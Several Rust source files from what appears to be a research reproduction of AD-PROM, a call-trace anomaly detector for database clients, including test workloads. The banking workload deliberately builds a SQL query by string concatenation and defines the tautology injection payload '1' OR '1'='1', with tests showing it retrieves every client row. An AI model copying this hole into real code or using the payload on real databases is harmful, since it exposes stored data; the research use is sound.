    use adprom_lang::validate;
    use std::collections::HashMap;

    #[test]
    fn source_parses_and_validates() {
        let prog = parse_program(SOURCE).unwrap();
        assert!(validate(&prog).is_empty(), "{:?}", validate(&prog));
    }

    #[test]
    fn analysis_labels_data_leaking_outputs() {
        let prog = parse_program(SOURCE).unwrap();
        let analysis = analyze(&prog);
        let labeled: Vec<&String> = analysis
            .site_labels
            .values()
            .filter(|l| l.contains("_Q"))
            .collect();
        // Patient names/balances flow to printf and fprintf sites.
        assert!(labeled.len() >= 5, "labeled: {labeled:?}");
        assert!(labeled.iter().any(|l| l.starts_with("fprintf_Q")));
    }

    #[test]
    fn runs_all_test_cases() {
        let w = workload(10, 42);
        let traces = w.collect_traces(&HashMap::new());
        assert_eq!(traces.len(), 10);
        assert!(traces.iter().all(|t| !t.is_empty()));
    }

    #[test]
    fn listing_twice_gives_longer_trace_than_quitting() {
        let w = workload(0, 0);
        let quit = w.run_case(&TestCase::new("q", vec!["0".into()]), &HashMap::new());
        let list = w.run_case(
            &TestCase::new("l", vec!["1".into(), "1".into(), "0".into()]),
            &HashMap::new(),
        );
        assert!(list.len() > quit.len() + 10);
    }

    #[test]
    fn test_cases_are_deterministic() {
        assert_eq!(test_cases(5, 9), test_cases(5, 9));
        assert_ne!(test_cases(5, 9), test_cases(5, 10));
    }
}
