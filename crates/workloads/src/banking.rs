//! `App_b` — the small banking system (CA-dataset, Table III).
//! MySQL-flavoured, and deliberately containing the §III / Fig. 2
//! vulnerability: `lookup_client` builds its query by string concatenation
//! from raw user input (no prepared statements), so the tautology payload
//! `1' OR '1'='1` retrieves every client record — Attack 5 of §V-C.
//!
//! The deposit/withdraw paths use prepared statements, the defended
//! pattern, so the workload exercises both.

use crate::workload::{TestCase, Workload};
use adprom_db::Database;
use adprom_lang::parse_program;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The application source (DSL).
pub const SOURCE: &str = r##"
fn main() {
    let conn = mysql_init(0);
    mysql_real_connect(conn, "bank");
    let running = 1;
    while (running) {
        show_menu();
        let choice = atoi(scanf());
        if (choice == 1) {
            lookup_client(conn);
        } else if (choice == 2) {
            deposit(conn);
        } else if (choice == 3) {
            withdraw(conn);
        } else if (choice == 4) {
            list_accounts(conn);
        } else if (choice == 5) {
            monthly_statement(conn);
        } else if (choice == 6) {
            transfer(conn);
        } else if (choice == 7) {
            audit_log(conn);
        } else if (choice == 8) {
            client_profile(conn);
        } else if (choice == 9) {
            fraud_scan(conn);
        } else if (choice == 10) {
            export_csv(conn);
        } else if (choice == 11) {
            interest_report(conn);
        } else {
            puts("bye");
            running = 0;
        }
    }
    mysql_close(conn);
}

fn show_menu() {
    puts("=== bank ===");
    puts("1) lookup client");
    puts("2) deposit");
    puts("3) withdraw");
    puts("4) list accounts");
    puts("5) monthly statement");
    puts("6) transfer");
    puts("7) audit log");
    puts("8) client profile");
    puts("9) fraud scan");
    puts("10) export csv");
    puts("11) interest report");
    puts("0) quit");
}

// Fig. 2: the vulnerable lookup — no prepared statement, raw concatenation.
fn lookup_client(conn) {
    let accNo = scanf();
    let query = "";
    let ts = "SELECT * FROM clients where id='";
    let tr = "'";
    strcpy(query, ts);
    strcat(query, accNo);
    strcat(query, tr);
    if (mysql_query(conn, query)) {
        puts("query error");
        return;
    }
    let result = mysql_store_result(conn);
    let fields = mysql_num_fields(result);
    let row = mysql_fetch_row(result);
    while (row != null) {
        for (let i = 0; i < fields; i = i + 1) {
            printf("%s ", row[i]);
        }
        puts("");
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
}

fn deposit(conn) {
    let accNo = scanf();
    let amount = scanf();
    mysql_stmt_prepare(conn, "UPDATE clients SET balance = balance + ? WHERE id = ?");
    mysql_stmt_execute(conn, amount, accNo);
    printf("deposited %s into %s\n", amount, accNo);
    log_txn(conn, accNo, amount, "deposit");
}

fn withdraw(conn) {
    let accNo = scanf();
    let amount = scanf();
    mysql_stmt_prepare(conn, "SELECT balance FROM clients WHERE id = ?");
    mysql_stmt_execute(conn, accNo);
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    mysql_free_result(result);
    if (row == null) {
        puts("no such account");
        return;
    }
    let balance = atof(row[0]);
    if (balance < atof(amount)) {
        puts("insufficient funds");
        return;
    }
    mysql_stmt_prepare(conn, "UPDATE clients SET balance = balance - ? WHERE id = ?");
    mysql_stmt_execute(conn, amount, accNo);
    printf("withdrew %s from %s\n", amount, accNo);
    log_txn(conn, accNo, amount, "withdraw");
}

fn list_accounts(conn) {
    mysql_query(conn, "SELECT id, name FROM clients ORDER BY id");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let count = 0;
    while (row != null) {
        printf("%s: %s\n", row[0], row[1]);
        count = count + 1;
        row = mysql_fetch_row(result);
    }
    printf("%d accounts\n", count);
    mysql_free_result(result);
}

fn monthly_statement(conn) {
    let accNo = scanf();
    mysql_stmt_prepare(conn, "SELECT amount, kind FROM txns WHERE account = ? ORDER BY amount DESC");
    mysql_stmt_execute(conn, accNo);
    let result = mysql_store_result(conn);
    let f = fopen("statement.txt", "w");
    fprintf(f, "statement for %s\n", accNo);
    let row = mysql_fetch_row(result);
    while (row != null) {
        fprintf(f, "%s %s\n", row[1], row[0]);
        row = mysql_fetch_row(result);
    }
    fclose(f);
    mysql_free_result(result);
    puts("statement written");
}

fn transfer(conn) {
    let from = scanf();
    let to = scanf();
    let amount = scanf();
    mysql_stmt_prepare(conn, "UPDATE clients SET balance = balance - ? WHERE id = ?");
    mysql_stmt_execute(conn, amount, from);
    mysql_stmt_prepare(conn, "UPDATE clients SET balance = balance + ? WHERE id = ?");
    mysql_stmt_execute(conn, amount, to);
    printf("moved %s: %s -> %s\n", amount, from, to);
    log_txn(conn, from, amount, "transfer");
}

fn log_txn(conn, accNo, amount, kind) {
    let q = "";
    sprintf(q, "INSERT INTO txns (account, amount, kind) VALUES (%s, %s, '%s')", accNo, amount, kind);
    mysql_query(conn, q);
}

fn audit_log(conn) {
    mysql_query(conn, "SELECT COUNT(*) FROM txns");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    printf("%s transactions on record\n", row[0]);
    mysql_free_result(result);
}

fn client_profile(conn) {
    let accNo = scanf();
    mysql_stmt_prepare(conn, "SELECT id, name, balance FROM clients WHERE id = ?");
    mysql_stmt_execute(conn, accNo);
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    mysql_free_result(result);
    if (row == null) {
        puts("no such client");
        return;
    }
    printf("ID       %s\n", row[0]);
    printf("NAME     %s\n", row[1]);
    printf("BALANCE  %s\n", row[2]);
    if (atof(row[2]) < 0) {
        printf("OVERDRAWN: %s\n", row[1]);
    } else {
        printf("standing: good (%s)\n", row[2]);
    }
    mysql_stmt_prepare(conn, "SELECT COUNT(*) FROM txns WHERE account = ?");
    mysql_stmt_execute(conn, accNo);
    let r2 = mysql_store_result(conn);
    let cnt = mysql_fetch_row(r2);
    printf("ACTIVITY %s txns\n", cnt[0]);
    mysql_free_result(r2);
}

fn fraud_scan(conn) {
    mysql_query(conn, "SELECT account, amount FROM txns WHERE amount > 150 ORDER BY amount DESC");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let hits = 0;
    while (row != null) {
        printf("suspicious: account %s moved %s\n", row[0], row[1]);
        if (atof(row[1]) > 400) {
            printf("  ESCALATE %s\n", row[0]);
        }
        hits = hits + 1;
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    if (hits == 0) {
        puts("no anomalies in ledger");
    } else {
        printf("%d flagged\n", hits);
    }
}

fn export_csv(conn) {
    let f = fopen("clients.csv", "w");
    fputs("id,name,balance\n", f);
    mysql_query(conn, "SELECT id, name, balance FROM clients ORDER BY id");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    while (row != null) {
        fprintf(f, "%s,", row[0]);
        fprintf(f, "%s,", row[1]);
        fprintf(f, "%s\n", row[2]);
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    fclose(f);
    puts("export complete");
}

fn interest_report(conn) {
    mysql_query(conn, "SELECT SUM(balance), AVG(balance), MAX(balance) FROM clients");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    mysql_free_result(result);
    printf("holdings   %s\n", row[0]);
    printf("mean       %s\n", row[1]);
    printf("largest    %s\n", row[2]);
    let projected = atof(row[0]) * 0.03;
    printf("interest due %f\n", projected);
}
"##;

/// Seeds the bank database.
pub fn make_db() -> Database {
    let mut db = Database::new("bank");
    db.execute("CREATE TABLE clients (id INT, name TEXT, balance FLOAT)")
        .expect("schema");
    db.execute("CREATE TABLE txns (account INT, amount FLOAT, kind TEXT)")
        .expect("schema");
    for i in 0..12i64 {
        let id = 100 + i;
        let balance = 250.0 + (i * 113 % 700) as f64;
        db.execute(&format!(
            "INSERT INTO clients VALUES ({id}, 'client{i}', {balance})"
        ))
        .expect("seed");
        db.execute(&format!(
            "INSERT INTO txns VALUES ({id}, {}, 'deposit')",
            50 + i * 3
        ))
        .expect("seed");
    }
    db
}

/// The Fig. 2 tautology payload.
pub const INJECTION_PAYLOAD: &str = "1' OR '1'='1";

/// Generates the test-case suite (Table III: 73 cases for App_b). All
/// inputs are benign; the injection payload is an *attack*, not training
/// data.
pub fn test_cases(count: usize, seed: u64) -> Vec<TestCase> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut cases = Vec::with_capacity(count);
    for c in 0..count {
        let mut inputs = Vec::new();
        for _ in 0..rng.gen_range(1..=5) {
            let choice = rng.gen_range(1..=11u32);
            inputs.push(choice.to_string());
            match choice {
                1 | 5 | 8 => inputs.push((100 + rng.gen_range(0..12)).to_string()),
                2 | 3 => {
                    inputs.push((100 + rng.gen_range(0..12)).to_string());
                    inputs.push(rng.gen_range(5..200).to_string());
                }
                6 => {
                    inputs.push((100 + rng.gen_range(0..12)).to_string());
                    inputs.push((100 + rng.gen_range(0..12)).to_string());
                    inputs.push(rng.gen_range(5..100).to_string());
                }
                _ => {}
            }
        }
        inputs.push("0".to_string());
        cases.push(TestCase::new(format!("b{c:03}"), inputs));
    }
    cases
}

/// A test case that performs the tautology injection through menu item 1.
pub fn injection_case() -> TestCase {
    TestCase::new(
        "injection",
        vec!["1".into(), INJECTION_PAYLOAD.into(), "0".into()],
    )
}

/// Builds the full App_b workload.
pub fn workload(case_count: usize, seed: u64) -> Workload {
    Workload {
        name: "App_b".into(),
        dbms: "MySQL",
        program: parse_program(SOURCE).expect("App_b source parses"),
        make_db,
        test_cases: test_cases(case_count, seed),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::validate;
    use std::collections::HashMap;

    #[test]
    fn source_parses_and_validates() {
        let prog = parse_program(SOURCE).unwrap();
        assert!(validate(&prog).is_empty(), "{:?}", validate(&prog));
    }

    #[test]
    fn injection_retrieves_all_rows() {
        let w = workload(0, 0);
        let normal = w.run_case(
            &TestCase::new("n", vec!["1".into(), "105".into(), "0".into()]),
            &HashMap::new(),
        );
        let attacked = w.run_case(&injection_case(), &HashMap::new());
        let fetches = |t: &[adprom_trace::CallEvent]| {
            t.iter().filter(|e| &*e.name == "mysql_fetch_row").count()
        };
        assert_eq!(fetches(&normal), 2); // one row + end-of-cursor
        assert_eq!(fetches(&attacked), 13); // all 12 clients + end
    }

    #[test]
    fn prepared_statement_path_resists_payload() {
        // Menu 5 (statement) binds the account as a parameter: the payload
        // matches nothing and the loop body never runs.
        let w = workload(0, 0);
        let attacked = w.run_case(
            &TestCase::new(
                "prep",
                vec!["5".into(), INJECTION_PAYLOAD.into(), "0".into()],
            ),
            &HashMap::new(),
        );
        let fetches = attacked
            .iter()
            .filter(|e| &*e.name == "mysql_fetch_row")
            .count();
        assert_eq!(fetches, 1); // immediate end-of-cursor
    }

    #[test]
    fn runs_all_test_cases() {
        let w = workload(12, 7);
        let traces = w.collect_traces(&HashMap::new());
        assert_eq!(traces.len(), 12);
    }
}
