//! SIR-scale synthetic applications (Table IV substitution).
//!
//! The paper's scalability experiment runs on four SIR artifacts (grep,
//! gzip, sed, bash) with their test suites. Those artifacts are not
//! available offline, and what the experiment needs from them is *large
//! programs with many distinct call states and large trace sets* — bash
//! reaches 1366 hidden states. This module generates programs of exactly
//! that shape, deterministically from a seed:
//!
//! * many functions reached from a menu-style dispatcher;
//! * per function, a pool of plain library calls, branches and loops whose
//!   direction is driven by `scanf` input (so test cases explore paths);
//! * per function, several *labeled* output sites (query results flowing
//!   to distinct `printf`/`fprintf` blocks), each contributing a distinct
//!   `name_Q<bid>` state — which is how the state count scales into the
//!   hundreds or thousands.

use crate::workload::{TestCase, Workload};
use adprom_db::Database;
use adprom_lang::builder::dsl::*;
use adprom_lang::{BinOp, LibCall, Program, ProgramBuilder, Stmt};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Shape of a synthetic application.
#[derive(Debug, Clone)]
pub struct SirSpec {
    /// Application name (`App1`…`App4`).
    pub name: String,
    /// Number of worker functions besides `main`.
    pub n_functions: usize,
    /// Labeled output sites per function (drives the state count).
    pub labeled_sites_per_function: usize,
    /// Plain library calls sprinkled per function.
    pub plain_calls_per_function: usize,
    /// Probability of wrapping a site in an extra branch.
    pub branch_prob: f64,
    /// Generator seed.
    pub seed: u64,
    /// Test cases to generate.
    pub test_cases: usize,
    /// Input tokens per test case.
    pub inputs_per_case: usize,
}

/// Preset approximating grep (Table IV App1).
pub fn app1_spec() -> SirSpec {
    SirSpec {
        name: "App1".into(),
        n_functions: 10,
        labeled_sites_per_function: 4,
        plain_calls_per_function: 4,
        branch_prob: 0.5,
        seed: 101,
        test_cases: 80,
        inputs_per_case: 24,
    }
}

/// Preset approximating gzip (Table IV App2).
pub fn app2_spec() -> SirSpec {
    SirSpec {
        name: "App2".into(),
        n_functions: 14,
        labeled_sites_per_function: 6,
        plain_calls_per_function: 5,
        branch_prob: 0.5,
        seed: 202,
        test_cases: 60,
        inputs_per_case: 28,
    }
}

/// Preset approximating sed (Table IV App3).
pub fn app3_spec() -> SirSpec {
    SirSpec {
        name: "App3".into(),
        n_functions: 20,
        labeled_sites_per_function: 8,
        plain_calls_per_function: 5,
        branch_prob: 0.6,
        seed: 303,
        test_cases: 70,
        inputs_per_case: 32,
    }
}

/// Preset approximating bash (Table IV App4): enough labeled sites to push
/// the state count past the 900-state clustering threshold (paper: 1366).
pub fn app4_spec() -> SirSpec {
    SirSpec {
        name: "App4".into(),
        n_functions: 48,
        labeled_sites_per_function: 24,
        plain_calls_per_function: 6,
        branch_prob: 0.6,
        seed: 404,
        test_cases: 120,
        inputs_per_case: 40,
    }
}

/// Innocuous plain calls the generator sprinkles around.
const PLAIN_POOL: &[LibCall] = &[
    LibCall::Strlen,
    LibCall::Strcmp,
    LibCall::Rand,
    LibCall::Time,
    LibCall::Abs,
    LibCall::Sqrt,
    LibCall::Getenv,
    LibCall::Malloc,
    LibCall::Free,
    LibCall::Memset,
    LibCall::Puts,
    LibCall::Putchar,
    LibCall::Strstr,
];

/// Generates the program for a spec.
pub fn generate_program(spec: &SirSpec) -> Program {
    let mut rng = StdRng::seed_from_u64(spec.seed);
    let mut b = ProgramBuilder::new();

    // Worker functions.
    for fi in 0..spec.n_functions {
        let mut body: Vec<Stmt> = Vec::new();
        // Fetch a query result once per function.
        let query = format!("SELECT v FROM data WHERE id <= {}", 1 + (fi % 7));
        let ex = b.lib(LibCall::PQexec, vec![var("conn"), s(&query)]);
        body.push(let_("r", ex));
        let gv = b.lib(LibCall::PQgetvalue, vec![var("r"), int(0), int(0)]);
        body.push(let_("v", gv));

        // Interleave plain calls and labeled output sites.
        let mut sites: Vec<Stmt> = Vec::new();
        for si in 0..spec.labeled_sites_per_function {
            // Each labeled site is one printf/fprintf of the tainted `v`,
            // placed in its own block so the DDG label is distinct.
            let sink = if si % 3 == 2 {
                let file = b.lib(LibCall::Fopen, vec![s("out.log"), s("a")]);
                let pr = b.lib(LibCall::Fprintf, vec![var("f"), s("%s\n"), var("v")]);
                vec![let_("f", file), expr(pr)]
            } else {
                let pr = b.lib(LibCall::Printf, vec![s("%s "), var("v")]);
                vec![expr(pr)]
            };
            let site_block = if rng.gen_bool(spec.branch_prob) {
                // Input-driven branch around the site.
                let read = b.lib(LibCall::Scanf, vec![]);
                let to_int = b.lib(LibCall::Atoi, vec![read]);
                vec![if_(
                    eq(bin(BinOp::Rem, to_int, int(2)), int(0)),
                    sink,
                    plain_stmt(&mut b, &mut rng),
                )]
            } else {
                sink
            };
            sites.extend(site_block);
        }
        for _ in 0..spec.plain_calls_per_function {
            sites.extend(plain_stmt(&mut b, &mut rng));
        }
        // Input-driven repetition of a trailing site (legitimate loop
        // behaviour the HMM must learn dynamically).
        let read = b.lib(LibCall::Scanf, vec![]);
        let to_int = b.lib(LibCall::Atoi, vec![read]);
        let pr = b.lib(LibCall::Printf, vec![s("%s."), var("v")]);
        sites.push(let_("reps", bin(BinOp::Rem, to_int, int(3))));
        sites.push(count_loop("i", var("reps"), vec![expr(pr)]));

        body.extend(sites);
        let clear = b.lib(LibCall::PQclear, vec![var("r")]);
        body.push(expr(clear));
        b.function(format!("work{fi}"), vec!["conn"], body);
    }

    // Dispatcher main: loop reading choices, calling workers.
    let connect = b.lib(LibCall::PQconnectdb, vec![s("sirdb")]);
    let mut main_body = vec![let_("conn", connect), let_("running", int(1))];
    let read = b.lib(LibCall::Scanf, vec![]);
    let to_int = b.lib(LibCall::Atoi, vec![read]);
    let mut dispatch: Vec<Stmt> = vec![assign("running", int(0))];
    for fi in (0..spec.n_functions).rev() {
        let call = b.user(format!("work{fi}"), vec![var("conn")]);
        dispatch = vec![if_(
            eq(var("choice"), int(fi as i64 + 1)),
            vec![expr(call)],
            dispatch,
        )];
    }
    let mut loop_body = vec![let_("choice", to_int)];
    loop_body.extend(dispatch);
    main_body.push(while_(var("running"), loop_body));
    let finish = b.lib(LibCall::PQfinish, vec![var("conn")]);
    main_body.push(expr(finish));
    b.function("main", vec![], main_body);
    b.build()
}

fn plain_stmt(b: &mut ProgramBuilder, rng: &mut StdRng) -> Vec<Stmt> {
    let lc = PLAIN_POOL[rng.gen_range(0..PLAIN_POOL.len())];
    let call = match lc {
        LibCall::Strcmp => b.lib(lc, vec![s("a"), s("b")]),
        LibCall::Strlen | LibCall::Puts | LibCall::Getenv | LibCall::Strstr => {
            b.lib(lc, vec![s("x")])
        }
        LibCall::Putchar | LibCall::Abs | LibCall::Sqrt => b.lib(lc, vec![int(7)]),
        LibCall::Memset => b.lib(lc, vec![s("buf"), int(0), int(8)]),
        LibCall::Free | LibCall::Malloc => b.lib(lc, vec![int(16)]),
        _ => b.lib(lc, vec![]),
    };
    vec![expr(call)]
}

/// Seeds the database the synthetic apps query.
pub fn make_db() -> Database {
    let mut db = Database::new("sirdb");
    db.execute("CREATE TABLE data (id INT, v TEXT)")
        .expect("schema");
    for i in 0..8i64 {
        db.execute(&format!("INSERT INTO data VALUES ({i}, 'val{i}')"))
            .expect("seed");
    }
    db
}

/// Generates the input suite for a spec.
pub fn test_cases(spec: &SirSpec) -> Vec<TestCase> {
    let mut rng = StdRng::seed_from_u64(spec.seed ^ 0x7E57);
    (0..spec.test_cases)
        .map(|c| {
            let mut inputs: Vec<String> = Vec::with_capacity(spec.inputs_per_case + 1);
            // First tokens pick worker functions; later tokens drive
            // branches and loop counts inside them.
            let actions = rng.gen_range(1..=3);
            for _ in 0..actions {
                inputs.push(rng.gen_range(1..=spec.n_functions as u32).to_string());
                for _ in 0..(spec.inputs_per_case / actions.max(1)) {
                    inputs.push(rng.gen_range(0..10u32).to_string());
                }
            }
            inputs.push("0".to_string());
            TestCase::new(format!("{}-{c:04}", spec.name), inputs)
        })
        .collect()
}

/// Builds the full synthetic workload for a spec.
pub fn workload(spec: &SirSpec) -> Workload {
    Workload {
        name: spec.name.clone(),
        dbms: "PostgreSQL",
        program: generate_program(spec),
        make_db,
        test_cases: test_cases(spec),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_analysis::analyze;
    use adprom_lang::validate;
    use std::collections::HashMap;

    fn tiny_spec() -> SirSpec {
        SirSpec {
            name: "tiny".into(),
            n_functions: 4,
            labeled_sites_per_function: 3,
            plain_calls_per_function: 2,
            branch_prob: 0.5,
            seed: 1,
            test_cases: 6,
            inputs_per_case: 10,
        }
    }

    #[test]
    fn generated_program_is_valid() {
        let prog = generate_program(&tiny_spec());
        assert!(validate(&prog).is_empty(), "{:?}", validate(&prog));
    }

    #[test]
    fn generation_is_deterministic() {
        let a = generate_program(&tiny_spec());
        let b = generate_program(&tiny_spec());
        assert_eq!(
            adprom_lang::pretty_program(&a),
            adprom_lang::pretty_program(&b)
        );
    }

    #[test]
    fn state_count_scales_with_labeled_sites() {
        let small = analyze(&generate_program(&tiny_spec()));
        let mut bigger_spec = tiny_spec();
        bigger_spec.n_functions = 8;
        bigger_spec.labeled_sites_per_function = 6;
        let big = analyze(&generate_program(&bigger_spec));
        assert!(
            big.observation_labels().len() > small.observation_labels().len() + 10,
            "{} vs {}",
            big.observation_labels().len(),
            small.observation_labels().len()
        );
    }

    #[test]
    fn traces_run_and_vary_with_inputs() {
        let spec = tiny_spec();
        let w = workload(&spec);
        let prog = generate_program(&spec);
        let analysis = analyze(&prog);
        let traces = w.collect_traces(&analysis.site_labels);
        assert_eq!(traces.len(), spec.test_cases);
        // Cases explore different paths: traces differ.
        let lens: std::collections::HashSet<usize> = traces.iter().map(Vec::len).collect();
        assert!(lens.len() > 1, "all traces identical length: {lens:?}");
        let _ = HashMap::<u32, u32>::new();
    }

    #[test]
    fn labeled_states_appear_in_traces() {
        let spec = tiny_spec();
        let w = workload(&spec);
        let prog = generate_program(&spec);
        let analysis = analyze(&prog);
        let traces = w.collect_traces(&analysis.site_labels);
        assert!(traces
            .iter()
            .flatten()
            .any(|e| e.name.starts_with("printf_Q")));
    }
}
