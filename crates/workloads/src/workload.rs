//! A workload bundles an application program, its database seeder, and a
//! suite of test cases (stdin input vectors), and knows how to run cases to
//! collect training traces.

use adprom_client::ClientSession;
use adprom_db::Database;
use adprom_lang::{CallSiteId, Program};
use adprom_trace::{execute_program, CallEvent, CallSink, ExecConfig, TraceCollector, VmProgram};
use std::collections::HashMap;

/// One test case: a named stdin input vector.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TestCase {
    /// Case name (for reports).
    pub name: String,
    /// The stdin lines the program consumes.
    pub inputs: Vec<String>,
}

impl TestCase {
    /// Builds a test case.
    pub fn new(name: impl Into<String>, inputs: Vec<String>) -> TestCase {
        TestCase {
            name: name.into(),
            inputs,
        }
    }
}

/// An application workload.
pub struct Workload {
    /// Application name (e.g. `App_h`).
    pub name: String,
    /// DBMS flavour the app is written against (Table III).
    pub dbms: &'static str,
    /// The application program.
    pub program: Program,
    /// Builds a freshly seeded database for one run.
    pub make_db: fn() -> Database,
    /// The test-case suite.
    pub test_cases: Vec<TestCase>,
}

impl Workload {
    /// Runs one test case, collecting the trace with the given site labels
    /// (pass the Analyzer's map for labeled traces, an empty map for raw).
    pub fn run_case(
        &self,
        case: &TestCase,
        site_labels: &HashMap<CallSiteId, String>,
    ) -> Vec<CallEvent> {
        let mut collector = TraceCollector::new();
        self.run_case_with_sink(case, site_labels, &mut collector);
        collector.into_events()
    }

    /// Runs one test case against an arbitrary sink (used by the collector
    /// overhead experiment and by online detection).
    pub fn run_case_with_sink(
        &self,
        case: &TestCase,
        site_labels: &HashMap<CallSiteId, String>,
        sink: &mut dyn CallSink,
    ) {
        let db = (self.make_db)();
        let mut session = ClientSession::connect(db);
        // A workload program is expected to run cleanly; step-limit or
        // argument errors in a curated app are bugs, so surface them loudly.
        // `execute_program` runs the bytecode VM by default (the tree-walk
        // stays available via `ExecConfig::mode`).
        execute_program(
            &self.program,
            &mut session,
            &case.inputs,
            site_labels,
            sink,
            &ExecConfig::default(),
        )
        .unwrap_or_else(|e| panic!("workload {} case {} failed: {e}", self.name, case.name));
    }

    /// Runs every test case, returning one trace per case. Compiles the
    /// program once and reuses the bytecode across cases.
    pub fn collect_traces(&self, site_labels: &HashMap<CallSiteId, String>) -> Vec<Vec<CallEvent>> {
        let vm = VmProgram::compile(&self.program, site_labels)
            .unwrap_or_else(|e| panic!("workload {} failed to compile: {e}", self.name));
        self.test_cases
            .iter()
            .map(|case| {
                let mut collector = TraceCollector::new();
                let mut session = ClientSession::connect((self.make_db)());
                vm.run(
                    &mut session,
                    &case.inputs,
                    &mut collector,
                    &ExecConfig::default(),
                )
                .unwrap_or_else(|e| {
                    panic!("workload {} case {} failed: {e}", self.name, case.name)
                });
                collector.into_events()
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::parse_program;

    fn tiny_workload() -> Workload {
        Workload {
            name: "tiny".into(),
            dbms: "PostgreSQL",
            program: parse_program("fn main() { let x = scanf(); printf(\"%s\", x); }").unwrap(),
            make_db: || Database::new("tiny"),
            test_cases: vec![
                TestCase::new("one", vec!["1".into()]),
                TestCase::new("two", vec!["2".into()]),
            ],
        }
    }

    #[test]
    fn collects_one_trace_per_case() {
        let w = tiny_workload();
        let traces = w.collect_traces(&HashMap::new());
        assert_eq!(traces.len(), 2);
        assert_eq!(traces[0].len(), 2); // scanf + printf
    }
}
