//! # adprom-workloads
//!
//! The evaluation workloads of the AD-PROM paper:
//!
//! * the **CA-dataset** (Table III) — three real-shaped database client
//!   applications written in the DSL: [`hospital`] (`App_h`, PostgreSQL),
//!   [`banking`] (`App_b`, MySQL, containing the Fig. 2 SQL-injection
//!   vulnerability) and [`supermarket`] (`App_s`, MySQL) — each with a
//!   seeded database and a generated test-case suite;
//! * the **SIR-dataset substitution** (Table IV) — [`sir`], a seeded
//!   generator producing programs at grep/gzip/sed/bash scale (App4
//!   crosses the 900-state clustering threshold like bash's 1366 states).

#![warn(missing_docs)]

pub mod banking;
pub mod hospital;
pub mod sir;
pub mod supermarket;
pub mod workload;

pub use sir::{app1_spec, app2_spec, app3_spec, app4_spec, SirSpec};
pub use workload::{TestCase, Workload};
