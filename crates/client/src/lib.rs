//! # adprom-client
//!
//! A libpq / libmysqlclient-shaped client layer over [`adprom_db`]. The
//! application programs monitored by AD-PROM talk to the database through
//! exactly this call surface, and the interpreter in `adprom-trace`
//! dispatches the corresponding `LibCall`s here.
//!
//! The semantics mirror the C libraries where it matters to the paper:
//!
//! * `PQexec` returns a result handle; `PQntuples` / `PQgetvalue` walk it —
//!   so *one extra matching row means one extra `PQgetvalue`+`printf` pair*
//!   in the trace (Fig. 1).
//! * `mysql_query` only reports status; `mysql_store_result` materializes the
//!   rows and `mysql_fetch_row` iterates a cursor, returning `None` at the
//!   end — so the Fig. 2 injection loop really executes once per row.
//! * Named prepared statements (`PQprepare`/`PQexecPrepared`,
//!   `mysql_stmt_*`) bind parameters server-side and are immune to the
//!   tautology injection.

#![warn(missing_docs)]

pub mod session;

pub use session::{ClientError, ClientSession, ResultHandle};
