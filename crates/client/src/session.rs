//! A client session: one connection to one database, holding result sets
//! and cursors, exposed through libpq- and libmysql-shaped methods.

use adprom_db::{Database, DbError, QueryResult, Value};
use std::fmt;
use std::sync::Arc;

/// Opaque handle to a stored result set (what `PQexec` /
/// `mysql_store_result` return to the program).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ResultHandle(pub usize);

/// Client-layer errors.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ClientError {
    /// The underlying engine rejected the statement.
    Db(DbError),
    /// A result handle is stale or out of range.
    BadHandle(usize),
    /// `mysql_store_result` called with no pending query result.
    NoPendingResult,
}

impl fmt::Display for ClientError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ClientError::Db(e) => write!(f, "database error: {e}"),
            ClientError::BadHandle(h) => write!(f, "invalid result handle {h}"),
            ClientError::NoPendingResult => write!(f, "no pending result to store"),
        }
    }
}

impl std::error::Error for ClientError {}

impl From<DbError> for ClientError {
    fn from(e: DbError) -> ClientError {
        ClientError::Db(e)
    }
}

/// A result set's text view. The rendering itself lives on the
/// [`adprom_db::ResultSet`] (rendered once per result set, ever — cached
/// results keep their text across repeats); this is two counters and a
/// refcount bump. `PQgetvalue` hands out refcounted cell clones and
/// `mysql_fetch_row` refcounted row clones, so walking a result allocates
/// nothing per access.
#[derive(Debug, Default)]
struct TextResult {
    nfields: usize,
    rows: Arc<Vec<Arc<[Arc<str>]>>>,
}

#[derive(Debug)]
struct StoredResult {
    rows: TextResult,
    /// `mysql_fetch_row` cursor.
    cursor: usize,
}

/// One connection to one database.
///
/// The session owns the [`Database`] — the reproduction runs client and
/// server in-process, which keeps the call surface identical while removing
/// the network (the paper's overhead numbers likewise exclude server time).
#[derive(Debug)]
pub struct ClientSession {
    db: Database,
    results: Vec<StoredResult>,
    /// Result of the last `mysql_query`, waiting for `mysql_store_result`.
    pending: Option<TextResult>,
    /// Count of queries submitted (used by experiment harnesses).
    queries_submitted: u64,
}

impl ClientSession {
    /// Opens a session over an existing database (`PQconnectdb` /
    /// `mysql_real_connect`).
    pub fn connect(db: Database) -> ClientSession {
        ClientSession {
            db,
            results: Vec::new(),
            pending: None,
            queries_submitted: 0,
        }
    }

    /// The underlying database (for seeding and assertions in tests).
    pub fn database(&self) -> &Database {
        &self.db
    }

    /// Mutable access to the underlying database.
    pub fn database_mut(&mut self) -> &mut Database {
        &mut self.db
    }

    /// Number of queries submitted over this session.
    pub fn queries_submitted(&self) -> u64 {
        self.queries_submitted
    }

    fn store(&mut self, rows: TextResult) -> ResultHandle {
        self.results.push(StoredResult { rows, cursor: 0 });
        ResultHandle(self.results.len() - 1)
    }

    fn stored(&self, h: ResultHandle) -> Result<&StoredResult, ClientError> {
